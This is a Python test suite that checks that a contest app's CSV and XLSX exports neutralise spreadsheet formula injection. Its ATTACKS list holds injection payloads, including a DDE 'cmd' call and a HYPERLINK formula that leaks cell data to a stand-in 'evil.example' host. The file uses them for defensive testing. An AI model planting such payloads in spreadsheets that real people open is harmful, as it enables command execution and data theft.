"""Every export is safe against formula injection (issue 11): read back, no cell is a formula.

Text that users and organizers type (titles, bodies, names, replies, comments, criterion and
department names) ends up in CSV and XLSX files that others open in Excel/WPS. A cell beginning with
``= + - @``, a tab or CR must never be evaluated there.
"""
from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from contest import (accounts, db as database, demo, exports, followup_stats, ranking, report, results,
                     spreadsheets, topics)
from contest.__main__ import main as cli

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ["=1+1", '=HYPERLINK("https://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "=", "-", "@"]
HARMLESS = ["-3", "+1.5", "食堂 = 好", "a-b", "", "1e5"]


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet program would evaluate."""
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas stay formulas
    return [f"{sheet.title}!{cell.coordinate}={cell.value!r}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def xlsx_values(data: bytes) -> set:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def assert_csv_safe(data: bytes) -> None:
    dangerous = [c for c in csv_cells(data) if exports.is_formula_like(c)]
    assert not dangerous, dangerous


def test_xlsx_attacks_are_strings_that_read_exactly_as_typed():
    frame = pd.DataFrame({"文本": ATTACKS + HARMLESS, "数字": range(len(ATTACKS + HARMLESS))})
    frame.loc[0, "数字"] = -5
    data = exports.to_excel({"提案": frame, "=SUM(A1)": frame.rename(columns={"文本": "=标题"})})
    assert formula_cells(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["提案"]
    assert [sheet.cell(i + 2, 1).value or "" for i in range(len(frame))] == list(frame["文本"])
    assert sheet.cell(2, 2).value == -5 and sheet.cell(2, 2).data_type == "n"  # numbers stay numbers
    assert sheet.cell(2, 1).quotePrefix  # Excel keeps it text even when the cell is edited
    assert book.worksheets[1]["A1"].value == "=标题" and book.worksheets[1]["A1"].data_type == "s"


def test_csv_attacks_get_an_apostrophe_and_plain_numbers_do_not():
    frame = pd.DataFrame({"文本": ATTACKS + HARMLESS, "分数": [-1.5] * len(ATTACKS + HARMLESS)})
    data = exports.to_csv(frame.rename(columns={"分数": "-分数"}))
    assert_csv_safe(data)
    cells = csv_cells(data)
    assert cells[0] == "文本" and cells[1] == "'-分数"
    texts = cells[2::2]
    assert texts == ["'" + a for a in ATTACKS] + HARMLESS
    assert set(cells[3::2]) == {"-1.5"}


def test_the_reader_reads_a_neutralised_csv_back_with_the_apostrophe_only():
    back = spreadsheets.read_table(exports.to_csv(pd.DataFrame({"标题": ["=1+1", "食堂"]})), "a.csv")
    assert back["标题"].tolist() == ["'=1+1", "食堂"]


@pytest.fixture(scope="module")
def hostile_demo(tmp_path_factory):
    """The demo contest with every user-typed text replaced by an attack."""
    db = database.connect(tmp_path_factory.mktemp("formula") / "contest.db")
    demo.build(db)
    attack = iter(ATTACKS * 1000)
    for table, columns in {"proposals": ["title", "problem", "suggestions", "author_name", "college"],
                           "users": ["name", "college"], "replies": ["text", "plan", "reason"],
                           "ratings": ["comment"], "departments": ["name"], "score_sheets": ["comment"]}.items():
        if table not in db.table_names():
            continue
        present = [c for c in columns if c in db[table].columns_dict]
        for pk in [r["r"] for r in db.query(f"select rowid as r from [{table}]")]:
            db.execute(f"update [{table}] set " + ", ".join(f"[{c}] = ?" for c in present) + " where rowid = ?",
                       [next(attack) for _ in present] + [pk])
    db.conn.commit()
    organizer = accounts.get_user(db, next(db["users"].rows_where("username = 'organizer'"))["id"])
    return db, organizer


def test_results_exports_are_formula_safe(hostile_demo):
    db, organizer = hostile_demo
    data = results.load(db, organizer)
    tables = results.export_tables(data, results.leaderboard(data))
    workbook = results.export_excel(tables)
    assert formula_cells(workbook) == []
    assert "=1+1" in xlsx_values(workbook) or "+1+1" in xlsx_values(workbook)  # the attacks are there, as text
    for table in tables.values():
        assert_csv_safe(results.export_csv(table))


def test_followup_and_report_workbooks_are_formula_safe(hostile_demo):
    db, organizer = hostile_demo
    for workbook in (followup_stats.export_excel(db, organizer), report.export_excel(db, organizer)):
        assert formula_cells(workbook) == []
        assert set(ATTACKS) & xlsx_values(workbook)


def test_cli_outputs_are_formula_safe(tmp_path, capsys):
    scores = tmp_path / "scores.csv"
    scores.write_text("proposal,judge,criterion,score\n=1+1,j1,c,5\n=1+1,j2,c,4\n@A1,j1,c,3\n@A1,j2,c,2\n",
                      encoding="utf-8")
    for out in ("rank.xlsx", "rank.csv"):
        assert cli(["--db", str(tmp_path / "none.db"), "rank", str(scores), "--out", str(tmp_path / out)]) == 0
    assert formula_cells((tmp_path / "rank.xlsx").read_bytes()) == []
    assert "=1+1" in xlsx_values((tmp_path / "rank.xlsx").read_bytes())
    assert_csv_safe((tmp_path / "rank.csv").read_bytes())
    capsys.readouterr()
    assert cli(["--db", str(tmp_path / "none.db"), "rank", str(scores)]) == 0
    printed = capsys.readouterr().out
    assert "'=1+1" in printed and "'@A1" in printed
    assert_csv_safe(printed.encode())
    frame = pd.DataFrame({"title": ["=1+1"], "body": ["-2+3"]})
    topics.write_table(frame, tmp_path / "t.xlsx")
    topics.write_table(frame, tmp_path / "t.csv")
    assert formula_cells((tmp_path / "t.xlsx").read_bytes()) == []
    assert_csv_safe((tmp_path / "t.csv").read_bytes())
    ranking._write(frame, tmp_path / "r.csv")
    assert_csv_safe((tmp_path / "r.csv").read_bytes())


def _calls(path: Path) -> list[str]:
    names = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            target = node.func.value
            owner = target.id if isinstance(target, ast.Name) else (
                target.func.id if isinstance(target, ast.Call) and isinstance(target.func, ast.Name) else "")
            names.append(f"{owner}.{node.func.attr}")
    return names


@pytest.mark.parametrize("path", sorted([*ROOT.glob("contest/*.py"), *ROOT.glob("app_pages/*.py"),
                                         ROOT / "streamlit_app.py"]), ids=lambda p: p.name)
def test_every_spreadsheet_written_goes_through_contest_exports(path):
    """No DataFrame.to_csv / to_excel and no openpyxl workbook outside contest/exports.py
    (the CLI prints through exports.csv_text): a new export cannot skip the neutralising."""
    if path.name == "exports.py":
        return
    writes = [c for c in _calls(path) if re.search(r"\.(to_csv|to_excel|ExcelWriter|Workbook)$", c)
              and not c.startswith(("exports.", "results.export", "safe_frame."))]
    assert writes == [], writes
